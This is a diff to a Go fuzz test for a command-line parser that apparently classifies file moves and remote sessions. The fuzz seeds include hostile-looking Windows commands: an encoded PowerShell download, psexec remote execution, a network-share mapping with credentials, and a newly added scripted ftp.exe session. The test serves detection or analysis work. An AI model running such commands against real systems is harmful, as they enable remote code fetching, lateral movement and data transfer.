@@ -137,7 +137,11 @@ func FuzzRead(f *testing.F) {
 	f.Add(`powershell -enc ` + encode(`iwr http://h/a -OutFile b`))
 	f.Add(`psexec \\a,b -c x`)
 	f.Add(`net use z: \\h\s p /user:q`)
+	f.Add(`ftp.exe -s:c.txt h`)
 	f.Fuzz(func(t *testing.T, line string) {
+		if s := Opens(line); s.Host != "" && (s.Tool == "" || s.Channel == "") {
+			t.Errorf("%q: a session of no tool: %+v", line, s)
+		}
 		for _, m := range []Meaning{Read(line), ReadScript(line), ReadShell(line)} {
 			for _, x := range m.Moves {
 				if x.From.Local() && x.To.Local() {
